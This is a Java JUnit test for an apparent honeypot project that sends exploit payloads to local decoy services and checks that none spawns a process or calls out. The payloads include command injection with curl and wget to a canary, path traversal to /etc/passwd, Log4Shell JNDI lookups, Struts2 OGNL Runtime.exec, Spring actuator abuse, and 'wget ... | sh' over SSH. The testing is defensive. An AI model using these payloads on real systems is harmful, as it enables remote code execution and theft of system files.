package dev.moat.decoy;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.OutputStream;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.time.Clock;
import java.time.Duration;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import org.apache.sshd.client.SshClient;
import org.apache.sshd.client.keyverifier.AcceptAllServerKeyVerifier;
import org.apache.sshd.client.session.ClientSession;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.condition.EnabledOnOs;
import org.junit.jupiter.api.condition.OS;

/**
 * Rule 5 for the execution decoys: the six HTTP decoys behind the Netty runtime and the SSH decoy are attacked with
 * payloads that would spawn a process or call back to a canary if anything acted on them. The attacks come from this
 * JVM only (raw sockets for HTTP, MINA's own SSH client for SSH), so this JVM's process tree must stay empty the whole
 * time; a sampler also watches this process's TCP sockets ({@link ExecutionWatch}) and the canary.
 * What it cannot see: a connection opened and closed between two samples to somewhere other than the canary.
 */
@EnabledOnOs(OS.LINUX)
class ExecutionDecoysNoExecutionTest {

  @Test
  void attackedExecutionDecoysSpawnNoProcessAndOpenNoOutboundConnection() throws Exception {
    try (ExecutionWatch watch = new ExecutionWatch()) {
      String cb = "127.0.0.1:" + watch.canaryPort();

      RecordingPublisher alerts = new RecordingPublisher();
      DecoyCatalog catalog = DecoyCatalog.builtIn();
      List<ServedDecoy> served = new ArrayList<>();
      for (String type : List.of("jenkins", "spring-actuator", "file-download", "ping-diagnostics", "log4shell", "struts2")) {
        served.add(new ServedDecoy(new DecoyIdentity(type, type, null, null), catalog.find(type).orElseThrow(), 0));
      }
      try (DecoyServer server = DecoyServer.start(served, "127.0.0.1", DecoyLimits.defaults(), alerts, Clock.systemUTC());
          SshDecoy ssh = new SshDecoy(new DecoyIdentity("bastion", "ssh", null, null), alerts, Clock.systemUTC(), SshDecoy.DEFAULT_CREDENTIALS,
              null)) {
        ssh.start("127.0.0.1", 0);
        Map<String, Integer> ports = server.boundPorts();
        Set<Integer> decoyPorts = new HashSet<>(ports.values());
        decoyPorts.add(ssh.boundPort());
        watch.start(decoyPorts);
        try {
          for (Map.Entry<String, Integer> decoy : ports.entrySet()) {
            for (String attack : attacks(cb)) {
              send(decoy.getValue(), attack);
            }
          }
          attackSsh(ssh.boundPort(), cb);
          alerts.await(a -> a.action().equals("ssh.download"));
        } finally {
          watch.stop();
        }
        assertThat(alerts.alerts()).extracting(Alert::action).contains("http.script_console", "http.actuator_env_write", "http.jolokia",
            "http.path_traversal", "http.command_injection", "http.log4shell", "http.struts_ognl", "ssh.login_success", "ssh.command",
            "ssh.download");
        assertThat(watch.children()).as("child processes while attacked").isEmpty();
        assertThat(watch.outbound()).as("outbound connections while attacked").isEmpty();
        assertThat(watch.callbacks()).as("connections to the canary").isZero();
      }
    }
  }

  private static List<String> attacks(String cb) {
    List<String> attacks = new ArrayList<>();
    for (String target : List.of("/diagnostics?host=8.8.8.8;curl%20http://" + cb + "/", "/diagnostics?host=$(wget%20http://" + cb + "/x)",
        "/download?file=..%2f..%2f..%2f..%2fetc%2fpasswd", "/jolokia/exec/ch.qos.logback.classic:Name=default,Type=ch.qos.logback.classic.jmx.JMXConfigurator/reloadByURL/http:!/!/" + cb + "!/x.xml",
        "/solr/?q=$%7Bjndi:ldap://" + cb + "/a%7D", "/index.action?redirect:%25%7B%40java.lang.Runtime%40getRuntime().exec('id')%7D")) {
      attacks.add("GET " + target + " HTTP/1.1\r\nHost: x\r\nUser-Agent: ${${::-j}ndi:ldap://" + cb + "/ua}\r\nConnection: close\r\n\r\n");
    }
    for (String post : List.of("/scriptText|script=" + "println 'curl http://" + cb + "/'.execute().text",
        "/actuator/env|{\"name\":\"spring.cloud.bootstrap.location\",\"value\":\"http://" + cb + "/x.yml\"}", "/actuator/refresh|")) {
      String[] p = post.split("\\|", 2);
      attacks.add("POST " + p[0] + " HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: "
          + p[1].getBytes(StandardCharsets.UTF_8).length + "\r\nConnection: close\r\n\r\n" + p[1]);
    }
    attacks.add("POST /upload.action HTTP/1.1\r\nHost: x\r\nContent-Type: %{(#cmd='curl http://" + cb + "/').(@java.lang.Runtime@getRuntime().exec(#cmd))}"
        + "\r\nContent-Length: 0\r\nConnection: close\r\n\r\n");
    return attacks;
  }

  private static void attackSsh(int port, String cb) throws IOException {
    try (SshClient client = SshClient.setUpDefaultClient()) {
      client.setServerKeyVerifier(AcceptAllServerKeyVerifier.INSTANCE);
      client.start();
      try (ClientSession session = client.connect("root", "127.0.0.1", port).verify(Duration.ofSeconds(20)).getSession()) {
        session.addPasswordIdentity("root");
        session.auth().verify(Duration.ofSeconds(20));
        assertThat(session.executeRemoteCommand("id; cat /etc/passwd")).startsWith("uid=0(root)");
        assertThat(session.executeRemoteCommand("wget http://" + cb + "/x.sh -O- | sh")).contains("unable to resolve host address");
      }
    }
  }

  private static void send(int port, String attack) throws IOException {
    try (Socket s = new Socket("127.0.0.1", port)) {
      s.setSoTimeout(20_000);
      OutputStream out = s.getOutputStream();
      out.write(attack.getBytes(StandardCharsets.UTF_8));
      out.flush();
      s.shutdownOutput();
      s.getInputStream().transferTo(OutputStream.nullOutputStream());
    }
  }
}
